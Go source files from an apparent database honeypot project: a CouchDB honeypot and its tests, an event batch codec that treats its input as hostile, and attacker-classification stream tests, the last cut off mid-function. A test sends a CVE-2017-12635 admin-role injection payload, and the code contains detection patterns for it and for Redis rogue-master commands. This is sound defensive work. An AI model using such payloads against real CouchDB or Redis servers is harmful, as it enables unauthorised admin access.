	payload := `{"type":"user","name":"hacker","roles":["_admin"],"password":"pwn"}`
	events := hptest.Run(t, hp.Handler(), cdbInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		status, _ := request(t, conn, br, "PUT", "/_users/org.couchdb.user:hacker", payload)
		if status != 201 {
			t.Fatalf("PoC expects 201, got %d", status)
		}
	})
	cmds := hptest.Commands(events)
	if len(cmds) != 1 || cmds[0] != "CVE-2017-12635 ADMIN-INJECT" {
		t.Fatalf("commands = %v", cmds)
	}
}

func TestConfigLeak(t *testing.T) {
	hp := New(nil)
	hptest.Run(t, hp.Handler(), cdbInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		status, body := request(t, conn, br, "GET", "/_config", "")
		if status != 200 || !strings.Contains(body, "database_dir") {
			t.Fatalf("config: %d %q", status, body)
		}
	})
}

func TestMissingDatabase(t *testing.T) {
	hp := New(nil)
	hptest.Run(t, hp.Handler(), cdbInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		if status, _ := request(t, conn, br, "GET", "/nope", ""); status != 404 {
			t.Fatalf("missing db status = %d", status)
		}
		if status, _ := request(t, conn, br, "DELETE", "/nope", ""); status != 404 {
			t.Fatalf("missing delete status = %d", status)
		}
		// Double-create conflicts, like real CouchDB.
		if status, _ := request(t, conn, br, "PUT", "/fresh", ""); status != 201 {
			t.Fatal("create failed")
		}
		if status, _ := request(t, conn, br, "PUT", "/fresh", ""); status != 412 {
			t.Fatal("double create not rejected")
		}
	})
}

func TestGarbageLogged(t *testing.T) {
	hp := New(nil)
	events := hptest.Run(t, hp.Handler(), cdbInfo(), func(t *testing.T, conn net.Conn) {
		conn.Write([]byte("\x00\x01\x02 not http"))
	})
	cmds := hptest.Commands(events)
	if len(cmds) != 1 || cmds[0] != "PROTOCOL-ERROR" {
		t.Fatalf("commands = %v", cmds)
	}
}
