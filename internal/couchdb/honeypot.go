// Package couchdb implements a medium-interaction CouchDB honeypot — one
// of the lesser-studied DBMS platforms the paper's limitations section
// names as future coverage ("MariaDB, CockroachDB, and CouchDB could have
// provided a more comprehensive view"). CouchDB was hit by the same
// unauthenticated-database ransom waves as MongoDB, and its admin-party
// HTTP API plus CVE-2017-12635 (admin-role injection) make it a natural
// seventh honeypot.
//
// The honeypot emulates a 2.x node with the "admin party" misconfiguration
// (no authentication), backed by a small in-memory database map so wipe-
// and-ransom attacks actually destroy and replace data.
package couchdb

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"sort"
	"strings"
	"sync"

	"decoydb/internal/core"
)

// Version is the advertised CouchDB release.
const Version = "2.3.1"

// MaxBody bounds request bodies.
const MaxBody = 1 << 20

// Honeypot is the CouchDB honeypot. Databases and their documents live in
// a shared in-memory store per instance.
type Honeypot struct {
	mu  sync.Mutex
	dbs map[string][]json.RawMessage
}

// New returns a honeypot with optional seed databases.
func New(seed map[string][]json.RawMessage) *Honeypot {
	h := &Honeypot{dbs: map[string][]json.RawMessage{
		"_users":      nil,
		"_replicator": nil,
	}}
	for db, docs := range seed {
		h.dbs[db] = append(h.dbs[db], docs...)
	}
	return h
}

// Handler returns a core.Handler bound to this honeypot.
func (h *Honeypot) Handler() core.Handler {
	return core.HandlerFunc(h.HandleConn)
}

// Databases returns the sorted database names.
func (h *Honeypot) Databases() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	out := make([]string, 0, len(h.dbs))
	for db := range h.dbs {
		out = append(out, db)
	}
	sort.Strings(out)
	return out
}

// DocCount reports the number of documents in db.
func (h *Honeypot) DocCount(db string) int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return len(h.dbs[db])
}

// HandleConn serves HTTP requests on one connection.
func (h *Honeypot) HandleConn(ctx context.Context, conn net.Conn, s *core.Session) error {
	s.Connect()
	br := bufio.NewReaderSize(conn, 16384)
	bw := bufio.NewWriterSize(conn, 16384)
	for {
		if ctx.Err() != nil {
			return ctx.Err()
		}
		req, err := http.ReadRequest(br)
		if err != nil {
			if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) {
				return nil
			}
			s.Command("PROTOCOL-ERROR", err.Error())
			return nil
		}
		body, _ := io.ReadAll(io.LimitReader(req.Body, MaxBody))
		req.Body.Close()

		action, raw := normalize(req, body)
		s.Command(action, raw)

		status, payload := h.respond(req, body)
		if err := writeHTTP(bw, req, status, payload); err != nil {
			return err
		}
		if req.Close || strings.EqualFold(req.Header.Get("Connection"), "close") {
			return nil
		}
	}
}

// normalize maps a request onto the action vocabulary.
func normalize(req *http.Request, body []byte) (string, string) {
	p := req.URL.Path
	raw := req.Method + " " + req.URL.String()
	if len(body) > 0 {
		raw += " " + string(body)
	}
	switch {
	case strings.HasPrefix(p, "/_users/org.couchdb.user:") && req.Method == http.MethodPut &&
		strings.Contains(string(body), `"roles"`) && strings.Contains(string(body), "_admin"):
		// CVE-2017-12635: user document injecting the _admin role.
		return "CVE-2017-12635 ADMIN-INJECT", raw
	case p == "/" || p == "":
		return "GET /", raw
	case p == "/_all_dbs":
		return "GET /_all_dbs", raw
	case p == "/_config" || strings.HasPrefix(p, "/_config/"):
		return req.Method + " /_config", raw
	case p == "/_membership":
		return "GET /_membership", raw
	case p == "/_utils" || strings.HasPrefix(p, "/_utils/"):
		return "GET /_utils", raw
	case strings.HasSuffix(p, "/_all_docs"):
		return "GET /{db}/_all_docs", raw
	case strings.Count(p, "/") == 1 && req.Method == http.MethodDelete:
		return "DELETE /{db}", raw
	case strings.Count(p, "/") == 1 && req.Method == http.MethodPut:
		return "PUT /{db}", raw
	case req.Method == http.MethodPost || req.Method == http.MethodPut:
		return req.Method + " /{db}/{doc}", raw
	case strings.Count(p, "/") >= 2:
		return "GET /{db}/{doc}", raw
	default:
		return req.Method + " /{db}", raw
	}
}

func (h *Honeypot) respond(req *http.Request, body []byte) (int, string) {
	p := strings.TrimSuffix(req.URL.Path, "/")
	switch {
	case p == "":
		return 200, `{"couchdb":"Welcome","version":"` + Version + `","git_sha":"c298091a4","uuid":"85fb71bf700c17267fef77535820e371","features":["pluggable-storage-engines","scheduler"],"vendor":{"name":"The Apache Software Foundation"}}`
	case p == "/_all_dbs":
		b, _ := json.Marshal(h.Databases())
		return 200, string(b)
	case p == "/_membership":
		return 200, `{"all_nodes":["couchdb@127.0.0.1"],"cluster_nodes":["couchdb@127.0.0.1"]}`
	case p == "/_config" || strings.HasPrefix(p, "/_config/"):
		// Admin party: the config API answers unauthenticated, exactly
		// the exposure the ransom waves exploited.
		return 200, `{"httpd":{"bind_address":"0.0.0.0","port":"5984"},"couchdb":{"database_dir":"/opt/couchdb/data"},"admins":{}}`
	case p == "/_utils":
		return 200, `<!DOCTYPE html><html><head><title>Project Fauxton</title></head><body></body></html>`
	case strings.HasSuffix(p, "/_all_docs"):
		db := strings.TrimSuffix(strings.TrimPrefix(p, "/"), "/_all_docs")
		return h.allDocs(db)
	}
	db := strings.TrimPrefix(p, "/")
	switch req.Method {
	case http.MethodGet:
		if i := strings.IndexByte(db, '/'); i >= 0 {
			return 200, `{"_id":"` + db[i+1:] + `","_rev":"1-967a00dff5e02add41819138abb3284d"}`
		}
		h.mu.Lock()
		docs, ok := h.dbs[db]
		h.mu.Unlock()
		if !ok {
			return 404, `{"error":"not_found","reason":"Database does not exist."}`
		}
		return 200, fmt.Sprintf(`{"db_name":%q,"doc_count":%d,"update_seq":"%d-g1AAAA","sizes":{"file":558843}}`, db, len(docs), len(docs))
	case http.MethodPut:
		if strings.HasPrefix(p, "/_users/org.couchdb.user:") {
			// Pretend the CVE-2017-12635 injection worked: the PoC
			// expects a 201 so the attacker proceeds (and is captured).
			return 201, `{"ok":true,"id":"` + strings.TrimPrefix(p, "/_users/") + `","rev":"1-abc"}`
		}
		if i := strings.IndexByte(db, '/'); i >= 0 {
			h.putDoc(db[:i], body)
			return 201, `{"ok":true,"id":"` + db[i+1:] + `","rev":"1-abc"}`
		}
		h.mu.Lock()
		if _, ok := h.dbs[db]; ok {
			h.mu.Unlock()
			return 412, `{"error":"file_exists","reason":"The database could not be created, the file already exists."}`
		}
		h.dbs[db] = nil
		h.mu.Unlock()
		return 201, `{"ok":true}`
	case http.MethodPost:
		if i := strings.IndexByte(db, '/'); i >= 0 {
			db = db[:i]
		}
		h.putDoc(db, body)
		return 201, `{"ok":true,"id":"generated","rev":"1-abc"}`
	case http.MethodDelete:
		h.mu.Lock()
		_, ok := h.dbs[db]
		delete(h.dbs, db)
		h.mu.Unlock()
		if !ok {
			return 404, `{"error":"not_found","reason":"missing"}`
		}
		return 200, `{"ok":true}`
	}
	return 405, `{"error":"method_not_allowed","reason":"Only GET,PUT,POST,DELETE allowed"}`
}

func (h *Honeypot) putDoc(db string, body []byte) {
	doc := json.RawMessage(body)
	if len(doc) == 0 || !json.Valid(doc) {
		doc = json.RawMessage(`{}`)
	}
	h.mu.Lock()
	h.dbs[db] = append(h.dbs[db], doc)
	h.mu.Unlock()
}

func (h *Honeypot) allDocs(db string) (int, string) {
	h.mu.Lock()
	docs, ok := h.dbs[db]
	h.mu.Unlock()
	if !ok {
		return 404, `{"error":"not_found","reason":"Database does not exist."}`
	}
	rows := make([]string, len(docs))
	for i, d := range docs {
		rows[i] = fmt.Sprintf(`{"id":"doc%d","key":"doc%d","value":{"rev":"1-abc"},"doc":%s}`, i, i, string(d))
	}
	return 200, fmt.Sprintf(`{"total_rows":%d,"offset":0,"rows":[%s]}`, len(docs), strings.Join(rows, ","))
}

func writeHTTP(bw *bufio.Writer, req *http.Request, status int, body string) error {
	resp := http.Response{
		StatusCode: status,
		ProtoMajor: 1, ProtoMinor: 1,
		Request: req,
		Header: http.Header{
			"Content-Type": []string{"application/json"},
			"Server":       []string{"CouchDB/" + Version + " (Erlang OTP/19)"},
		},
		Body:          io.NopCloser(strings.NewReader(body)),
		ContentLength: int64(len(body)),
	}
	if err := resp.Write(bw); err != nil {
		return err
	}
	return bw.Flush()
}
