// Package evcodec is the one binary encoding of an event batch, shared
// by the relay wire protocol (internal/relay) and the on-disk WAL
// segment format (internal/wal). Both wrap the same body — a sequence
// number, an event count, the uncompressed size, a CRC-32 over the
// compressed payload, and the flate-compressed event encoding — behind
// their own headers, so the farm→collector frames and the durable
// segments literally cannot drift apart.
//
// Like everything downstream of a honeypot, the decoder treats its
// input as hostile: every declared size is validated against Limits
// before allocation, the CRC is verified before decompression, and the
// decompressor is capped at the declared size so a zip bomb cannot
// inflate past its declaration.
package evcodec

import (
	"bytes"
	"compress/flate"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"net/netip"
	"sync"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/wire"
)

// Hard limits. They bound what a single batch can make a decoder
// allocate, whether the batch arrived over a routable port or from a
// segment file on disk (which may have been corrupted arbitrarily).
const (
	// DefaultMaxRaw caps the decompressed payload of one batch.
	DefaultMaxRaw = 32 << 20
	// DefaultMaxEvents caps the events declared by one batch.
	DefaultMaxEvents = 65536
	// MaxString caps any single string field inside an encoded event.
	MaxString = 1 << 20
	// MaxOwnerAddr caps the endpoint address inside an ownership record.
	// Collector addresses are host:port strings; anything longer than
	// this is corruption, not configuration.
	MaxOwnerAddr = 256
)

// LevelStored selects flate stored (uncompressed) blocks: the payload
// is still a valid flate stream any decoder accepts, but encoding is a
// plain copy. The WAL defaults to it — segment appends sit on the
// ingest hot path and local disk is cheaper than the CPU to shrink it —
// while the relay keeps real compression for the wire.
const LevelStored = -3

// Codec errors.
var (
	// ErrCorrupt is returned for any structurally invalid batch body.
	ErrCorrupt = errors.New("evcodec: malformed batch")
	// ErrChecksum is returned when the payload CRC does not match.
	ErrChecksum = errors.New("evcodec: payload checksum mismatch")
)

// Limits bound what ReadBatch will allocate for one batch. The zero
// value means the package defaults.
type Limits struct {
	MaxRaw    int // decompressed payload bytes (0 = DefaultMaxRaw)
	MaxEvents int // events per batch (0 = DefaultMaxEvents)
}

// WithDefaults fills zero fields with the package defaults.
func (l Limits) WithDefaults() Limits {
	if l.MaxRaw <= 0 {
		l.MaxRaw = DefaultMaxRaw
	}
	if l.MaxEvents <= 0 {
		l.MaxEvents = DefaultMaxEvents
	}
	return l
}

// Payload is a compressed event payload, ready to be framed into a
// batch body. It carries no sequence number, so it can be built outside
// whatever lock assigns sequences — the WAL compresses concurrently and
// only serialises the (cheap) framed write. Callers that consume Comp
// before returning should call Release to recycle the buffer.
type Payload struct {
	Comp   []byte // flate-compressed event encoding
	RawLen int    // uncompressed size
	Count  int    // events encoded
	CRC    uint32 // CRC-32 (IEEE) over Comp

	buf *bytes.Buffer // pooled backing store for Comp, nil if unpooled
}

// compBufs recycles compression output buffers between batches.
var compBufs = sync.Pool{New: func() any { return new(bytes.Buffer) }}

// Release recycles the payload's backing buffer. The caller must be
// done with Comp; forgetting to call it only costs a GC'd allocation.
func (p *Payload) Release() {
	if p.buf != nil {
		p.buf.Reset()
		compBufs.Put(p.buf)
		p.buf, p.Comp = nil, nil
	}
}

// AppendHead appends the batch-body framing that precedes the
// compressed payload — sequence number, event count, uncompressed size,
// payload CRC — and returns the extended buffer. AppendHead followed by
// the Comp bytes is exactly what AppendPayload emits.
func (p Payload) AppendHead(buf []byte, seq uint64) []byte {
	buf = binary.LittleEndian.AppendUint64(buf, seq)
	buf = binary.LittleEndian.AppendUint32(buf, uint32(p.Count))
	buf = binary.LittleEndian.AppendUint32(buf, uint32(p.RawLen))
	return binary.LittleEndian.AppendUint32(buf, p.CRC)
}

// flateWriters recycles flate compressors: flate.NewWriter allocates
// ~1MB of window and hash-table state, which would otherwise dominate
// every batch append on both the relay and WAL hot paths.
var flateWriters sync.Pool

type pooledFlate struct {
	level int
	fw    *flate.Writer
}

// rawBufs recycles the pre-compression encode buffer; it never escapes
// Compress, so pooling it removes a ~32KB alloc+clear per batch.
var rawBufs = sync.Pool{New: func() any { b := make([]byte, 0, 32<<10); return &b }}

// Compress encodes and compresses events into a Payload. level is a
// compress/flate level; 0 selects flate.BestSpeed — both callers sit on
// hot paths and trade ratio for throughput by default — and LevelStored
// selects stored blocks.
func Compress(events []core.Event, level int) (Payload, error) {
	switch level {
	case 0:
		level = flate.BestSpeed
	case LevelStored:
		level = flate.NoCompression
	}
	// Encode into a local slice: appending through a pointer field would
	// pay a GC write barrier on every field write, which profiles as half
	// the cost of encoding a batch.
	rawp := rawBufs.Get().(*[]byte)
	raw := (*rawp)[:0]
	for _, e := range events {
		raw = appendEvent(raw, e)
	}
	defer func() { *rawp = raw[:0]; rawBufs.Put(rawp) }()
	comp := compBufs.Get().(*bytes.Buffer)
	fail := func(err error) (Payload, error) {
		comp.Reset()
		compBufs.Put(comp)
		return Payload{}, err
	}
	var fw *flate.Writer
	if v, _ := flateWriters.Get().(*pooledFlate); v != nil && v.level == level {
		fw = v.fw
		fw.Reset(comp)
	} else {
		var err error
		if fw, err = flate.NewWriter(comp, level); err != nil {
			return fail(fmt.Errorf("evcodec: flate level %d: %w", level, err))
		}
	}
	if _, err := fw.Write(raw); err != nil {
		return fail(fmt.Errorf("evcodec: compress batch: %w", err))
	}
	if err := fw.Close(); err != nil {
		return fail(fmt.Errorf("evcodec: compress batch: %w", err))
	}
	flateWriters.Put(&pooledFlate{level: level, fw: fw})
	return Payload{
		Comp:   comp.Bytes(),
		RawLen: len(raw),
		Count:  len(events),
		CRC:    crc32.ChecksumIEEE(comp.Bytes()),
		buf:    comp,
	}, nil
}

// AppendPayload frames a compressed payload as one batch body onto w:
// sequence number, event count, uncompressed size, payload CRC, then
// the compressed payload itself.
func AppendPayload(w *wire.Writer, seq uint64, p Payload) {
	w.Raw(p.AppendHead(nil, seq))
	w.Raw(p.Comp)
}

// AppendBatch encodes events as one batch body onto w — Compress and
// AppendPayload in one step, for callers that already hold seq. It
// returns the uncompressed payload size (the numerator of the
// compression ratio).
func AppendBatch(w *wire.Writer, seq uint64, events []core.Event, level int) (rawLen int, err error) {
	p, err := Compress(events, level)
	if err != nil {
		return 0, err
	}
	AppendPayload(w, seq, p)
	p.Release()
	return p.RawLen, nil
}

// ReadBatch is the symmetric inverse of AppendBatch: it consumes one
// batch body from r (through to the end of the buffer — the compressed
// payload is whatever remains). Every declared size is validated
// against lim before allocation, the CRC is verified before
// decompression, and the decompressed payload must parse into exactly
// the declared event count with no bytes left over.
func ReadBatch(r *wire.Reader, lim Limits) (seq uint64, events []core.Event, rawLen int, err error) {
	lim = lim.WithDefaults()
	if seq, err = r.Uint64LE(); err != nil {
		return 0, nil, 0, fmt.Errorf("%w: %v", ErrCorrupt, err)
	}
	count, err := r.Uint32LE()
	if err != nil {
		return 0, nil, 0, fmt.Errorf("%w: %v", ErrCorrupt, err)
	}
	if count == 0 || int64(count) > int64(lim.MaxEvents) {
		return 0, nil, 0, fmt.Errorf("%w: %d events declared (limit %d)", ErrCorrupt, count, lim.MaxEvents)
	}
	declaredRaw, err := r.Uint32LE()
	if err != nil {
		return 0, nil, 0, fmt.Errorf("%w: %v", ErrCorrupt, err)
	}
	if int64(declaredRaw) > int64(lim.MaxRaw) {
		return 0, nil, 0, fmt.Errorf("%w: %d-byte payload declared (limit %d)", wire.ErrFrameTooLarge, declaredRaw, lim.MaxRaw)
	}
	sum, err := r.Uint32LE()
	if err != nil {
		return 0, nil, 0, fmt.Errorf("%w: %v", ErrCorrupt, err)
	}
	comp := r.Rest()
	if crc32.ChecksumIEEE(comp) != sum {
		return 0, nil, 0, ErrChecksum
	}
	// LimitReader caps the decompressor at declaredRaw+1: a payload that
	// inflates past its declaration is rejected without allocating more
	// than one extra byte past the bound.
	fr := flate.NewReader(bytes.NewReader(comp))
	buf := bytes.NewBuffer(make([]byte, 0, declaredRaw))
	n, err := io.Copy(buf, io.LimitReader(fr, int64(declaredRaw)+1))
	if err != nil {
		return 0, nil, 0, fmt.Errorf("%w: decompress: %v", ErrCorrupt, err)
	}
	if n != int64(declaredRaw) {
		return 0, nil, 0, fmt.Errorf("%w: payload inflates to %d bytes, declared %d", ErrCorrupt, n, declaredRaw)
	}
	er := wire.NewReader(buf.Bytes())
	events = make([]core.Event, 0, count)
	for i := uint32(0); i < count; i++ {
		e, err := decodeEvent(er)
		if err != nil {
			return 0, nil, 0, fmt.Errorf("%w: event %d: %v", ErrCorrupt, i, err)
		}
		events = append(events, e)
	}
	if er.Len() != 0 {
		return 0, nil, 0, fmt.Errorf("%w: %d trailing payload bytes", ErrCorrupt, er.Len())
	}
	return seq, events, int(declaredRaw), nil
}

// AppendOwner appends the body of a frame-ownership record — the spool
// sequence number and the collector address the frame is pinned to
// (empty = pin released) — shared by the relay's durable spool and the
// WAL's owner records so the two cannot drift. The address is bounded by
// MaxOwnerAddr; longer addresses are an error, never truncated (a
// truncated address would silently pin the frame to a different
// collector).
func AppendOwner(buf []byte, seq uint64, addr string) ([]byte, error) {
	if len(addr) > MaxOwnerAddr {
		return nil, fmt.Errorf("evcodec: %d-byte owner address (limit %d)", len(addr), MaxOwnerAddr)
	}
	buf = binary.LittleEndian.AppendUint64(buf, seq)
	buf = binary.LittleEndian.AppendUint16(buf, uint16(len(addr)))
	return append(buf, addr...), nil
}

// ReadOwner is the symmetric inverse of AppendOwner: it consumes one
// ownership body from r, bounding the declared address length before
// allocation. The body must end exactly at the address — trailing bytes
// are corruption.
func ReadOwner(r *wire.Reader) (seq uint64, addr string, err error) {
	if seq, err = r.Uint64LE(); err != nil {
		return 0, "", fmt.Errorf("%w: %v", ErrCorrupt, err)
	}
	n, err := r.Uint16LE()
	if err != nil {
		return 0, "", fmt.Errorf("%w: %v", ErrCorrupt, err)
	}
	if int(n) > MaxOwnerAddr {
		return 0, "", fmt.Errorf("%w: %d-byte owner address (limit %d)", ErrCorrupt, n, MaxOwnerAddr)
	}
	b, err := r.Bytes(int(n))
	if err != nil {
		return 0, "", fmt.Errorf("%w: %v", ErrCorrupt, err)
	}
	if r.Len() != 0 {
		return 0, "", fmt.Errorf("%w: %d trailing owner bytes", ErrCorrupt, r.Len())
	}
	return seq, string(b), nil
}

// appendEvent appends one event to buf in the fixed field order
// decodeEvent expects. String fields longer than MaxString are
// truncated — events are bounded upstream (core honeypots excerpt Raw),
// so truncation here is a belt-and-braces cap, not a normal path.
func appendEvent(buf []byte, e core.Event) []byte {
	buf = binary.LittleEndian.AppendUint64(buf, uint64(e.Time.UnixNano()))
	a16 := e.Src.Addr().As16()
	buf = append(buf, a16[:]...)
	buf = binary.LittleEndian.AppendUint16(buf, e.Src.Port())
	buf = appendString(buf, e.Honeypot.DBMS)
	buf = append(buf, byte(e.Honeypot.Level))
	buf = binary.LittleEndian.AppendUint32(buf, uint32(e.Honeypot.Port))
	buf = binary.LittleEndian.AppendUint32(buf, uint32(e.Honeypot.Instance))
	buf = appendString(buf, e.Honeypot.Config)
	buf = appendString(buf, e.Honeypot.Group)
	buf = appendString(buf, e.Honeypot.VM)
	buf = appendString(buf, e.Honeypot.Region)
	buf = append(buf, byte(e.Kind))
	buf = appendString(buf, e.User)
	buf = appendString(buf, e.Pass)
	if e.OK {
		buf = append(buf, 1)
	} else {
		buf = append(buf, 0)
	}
	buf = appendString(buf, e.Command)
	return appendString(buf, e.Raw)
}

// decodeEvent parses one event; every string read is bounded.
func decodeEvent(r *wire.Reader) (core.Event, error) {
	var e core.Event
	nanos, err := r.Uint64LE()
	if err != nil {
		return e, err
	}
	e.Time = time.Unix(0, int64(nanos)).UTC()
	ab, err := r.Bytes(16)
	if err != nil {
		return e, err
	}
	var a16 [16]byte
	copy(a16[:], ab)
	port, err := r.Uint16LE()
	if err != nil {
		return e, err
	}
	e.Src = netip.AddrPortFrom(netip.AddrFrom16(a16).Unmap(), port)
	if e.Honeypot.DBMS, err = getString(r); err != nil {
		return e, err
	}
	lvl, err := r.Uint8()
	if err != nil {
		return e, err
	}
	e.Honeypot.Level = core.Level(lvl)
	hpPort, err := r.Uint32LE()
	if err != nil {
		return e, err
	}
	e.Honeypot.Port = int(hpPort)
	inst, err := r.Uint32LE()
	if err != nil {
		return e, err
	}
	e.Honeypot.Instance = int(inst)
	if e.Honeypot.Config, err = getString(r); err != nil {
		return e, err
	}
	if e.Honeypot.Group, err = getString(r); err != nil {
		return e, err
	}
	if e.Honeypot.VM, err = getString(r); err != nil {
		return e, err
	}
	if e.Honeypot.Region, err = getString(r); err != nil {
		return e, err
	}
	kind, err := r.Uint8()
	if err != nil {
		return e, err
	}
	e.Kind = core.EventKind(kind)
	if e.User, err = getString(r); err != nil {
		return e, err
	}
	if e.Pass, err = getString(r); err != nil {
		return e, err
	}
	ok, err := r.Uint8()
	if err != nil {
		return e, err
	}
	e.OK = ok != 0
	if e.Command, err = getString(r); err != nil {
		return e, err
	}
	if e.Raw, err = getString(r); err != nil {
		return e, err
	}
	return e, nil
}

// appendString appends a uint32-length-prefixed string, truncated to
// MaxString.
func appendString(buf []byte, s string) []byte {
	if len(s) > MaxString {
		s = s[:MaxString]
	}
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(s)))
	return append(buf, s...)
}

// getString reads a uint32-length-prefixed string, bounded by MaxString.
func getString(r *wire.Reader) (string, error) {
	n, err := r.Uint32LE()
	if err != nil {
		return "", err
	}
	if int64(n) > MaxString {
		return "", fmt.Errorf("%w: %d-byte string (limit %d)", wire.ErrFrameTooLarge, n, MaxString)
	}
	b, err := r.Bytes(int(n))
	if err != nil {
		return "", err
	}
	return string(b), nil
}
