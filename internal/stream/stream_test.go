package stream

import (
	"encoding/json"
	"fmt"
	"net/netip"
	"testing"
	"time"

	"decoydb/internal/classify"
	"decoydb/internal/cluster"
	"decoydb/internal/core"
)

var t0 = time.Date(2025, 3, 1, 0, 0, 0, 0, time.UTC)

func src(i int) netip.AddrPort {
	return netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, 113, byte(i)}), 40000)
}

func ev(i int, kind core.EventKind, dbms, cmd string, at time.Duration) core.Event {
	return core.Event{
		Time:     t0.Add(at),
		Src:      src(i),
		Honeypot: core.Info{DBMS: dbms, Level: core.Low},
		Kind:     kind,
		Command:  cmd,
	}
}

func TestEscalationAlert(t *testing.T) {
	a := New(Options{})
	// A source connects, scouts, then strikes: the transition to
	// exploiting must emit exactly one escalation alert.
	batch := []core.Event{
		ev(1, core.EventConnect, core.Redis, "", 0),
		ev(1, core.EventCommand, core.Redis, "INFO", time.Second),
		ev(1, core.EventCommand, core.Redis, "KEYS", 2*time.Second),
	}
	if err := a.RecordBatch(batch); err != nil {
		t.Fatal(err)
	}
	if got, _ := a.Verdict(src(1).Addr()); got != classify.Scouting {
		t.Fatalf("after scouting: verdict = %v, want scouting", got)
	}
	if n := a.Stats().Escalations; n != 0 {
		t.Fatalf("escalations before exploit = %d, want 0", n)
	}

	strike := ev(1, core.EventCommand, core.Redis, "MODULE LOAD", 3*time.Second)
	if err := a.RecordBatch([]core.Event{strike}); err != nil {
		t.Fatal(err)
	}
	if got, _ := a.Verdict(src(1).Addr()); got != classify.Exploiting {
		t.Fatalf("after exploit: verdict = %v, want exploiting", got)
	}
	alerts := a.Alerts(0)
	var esc []Alert
	for _, al := range alerts {
		if al.Kind == EscalationAlert {
			esc = append(esc, al)
		}
	}
	if len(esc) != 1 {
		t.Fatalf("escalation alerts = %d, want 1 (%v)", len(esc), alerts)
	}
	al := esc[0]
	if al.Src != src(1).Addr().String() || al.From != "scouting" || al.To != "exploiting" ||
		al.Action != "MODULE LOAD" || al.DBMS != core.Redis {
		t.Fatalf("escalation alert = %+v", al)
	}
	if !al.Time.Equal(strike.Time) {
		t.Fatalf("alert time = %v, want triggering event time %v", al.Time, strike.Time)
	}

	// Staying at exploiting must not re-alert.
	if err := a.RecordBatch([]core.Event{ev(1, core.EventCommand, core.Redis, "FLUSHALL", 4*time.Second)}); err != nil {
		t.Fatal(err)
	}
	if n := a.Stats().Escalations; n != 1 {
		t.Fatalf("escalations after second exploit = %d, want 1", n)
	}
}

func TestLoginCountsAsScouting(t *testing.T) {
	a := New(Options{})
	e := ev(2, core.EventLogin, core.MySQL, "", 0)
	e.User, e.Pass = "root", "root"
	a.Record(e)
	if got, ok := a.Verdict(src(2).Addr()); !ok || got != classify.Scouting {
		t.Fatalf("verdict after login = %v ok=%v, want scouting", got, ok)
	}
}

func TestLRUBound(t *testing.T) {
	a := New(Options{MaxSources: 8})
	for i := 1; i <= 20; i++ {
		a.Record(ev(i, core.EventCommand, core.Redis, "INFO", time.Duration(i)*time.Second))
	}
	st := a.Stats()
	if st.Sources != 8 {
		t.Fatalf("sources = %d, want 8", st.Sources)
	}
	if st.Evicted != 12 {
		t.Fatalf("evicted = %d, want 12", st.Evicted)
	}
	// The oldest sources are gone, the newest retained.
	if _, ok := a.Verdict(src(1).Addr()); ok {
		t.Fatal("source 1 should have been evicted")
	}
	if _, ok := a.Verdict(src(20).Addr()); !ok {
		t.Fatal("source 20 should be tracked")
	}
	// Re-touching an old retained source keeps it alive through churn.
	a.Record(ev(13, core.EventCommand, core.Redis, "KEYS", 100*time.Second))
	for i := 30; i < 37; i++ {
		a.Record(ev(i, core.EventCommand, core.Redis, "INFO", time.Duration(i)*time.Second))
	}
	if _, ok := a.Verdict(src(13).Addr()); !ok {
		t.Fatal("recently touched source 13 should survive churn")
	}
}

func TestNewClusterAndShiftAlerts(t *testing.T) {
	a := New(Options{})
	// First source: pure scout vector seeds cluster 0.
	if err := a.RecordBatch([]core.Event{
		ev(1, core.EventCommand, core.Redis, "INFO", 0),
		ev(1, core.EventCommand, core.Redis, "KEYS", time.Second),
	}); err != nil {
		t.Fatal(err)
	}
	st := a.Stats()
	if st.Clusters != 1 || st.NewClusters != 1 {
		t.Fatalf("after first source: clusters=%d new-cluster alerts=%d, want 1/1", st.Clusters, st.NewClusters)
	}
	// Second source with a disjoint exploit vector seeds cluster 1.
	if err := a.RecordBatch([]core.Event{
		ev(2, core.EventCommand, core.Redis, "SLAVEOF", 2*time.Second),
		ev(2, core.EventCommand, core.Redis, "MODULE LOAD", 3*time.Second),
	}); err != nil {
		t.Fatal(err)
	}
	if st := a.Stats(); st.Clusters != 2 {
		t.Fatalf("clusters = %d, want 2", st.Clusters)
	}
	// Source 1 now pivots: a long exploit tail drags its vector to the
	// exploit cluster — that migration must emit a shift alert.
	var pivot []core.Event
	for i := 0; i < 30; i++ {
		pivot = append(pivot, ev(1, core.EventCommand, core.Redis, "SLAVEOF", time.Duration(10+i)*time.Second))
		pivot = append(pivot, ev(1, core.EventCommand, core.Redis, "MODULE LOAD", time.Duration(11+i)*time.Second))
	}
	if err := a.RecordBatch(pivot); err != nil {
		t.Fatal(err)
	}
	got, ok := a.Cluster(src(1).Addr())
	if !ok {
		t.Fatal("source 1 lost its assignment")
	}
	c2, _ := a.Cluster(src(2).Addr())
	if got != c2 {
		t.Fatalf("source 1 in cluster %d, want exploit cluster %d", got, c2)
	}
	if st := a.Stats(); st.Shifts == 0 {
		t.Fatal("no cluster-shift alert after migration")
	}
	var shift *Alert
	for _, al := range a.Alerts(0) {
		if al.Kind == ClusterShiftAlert {
			shift = &al
			break
		}
	}
	if shift == nil || shift.Src != src(1).Addr().String() {
		t.Fatalf("shift alert = %+v", shift)
	}
}

// TestOnlineOfflineAgreement feeds a stable corpus with three
// well-separated behaviour groups through the analyzer and checks the
// online partition matches the offline cluster.Run partition: sources
// co-clustered online iff co-clustered offline.
func TestOnlineOfflineAgreement(t *testing.T) {
	groups := [][]string{
		{"INFO", "KEYS", "INFO", "CONFIG GET", "DBSIZE"},                      // scouts
		{"SLAVEOF", "CONFIG SET dir", "CONFIG SET dbfilename", "MODULE LOAD"}, // rogue-master chain
		{"SET", "SET", "SET", "SET", "GET"},                                   // payload stagers
	}
	const perGroup = 6
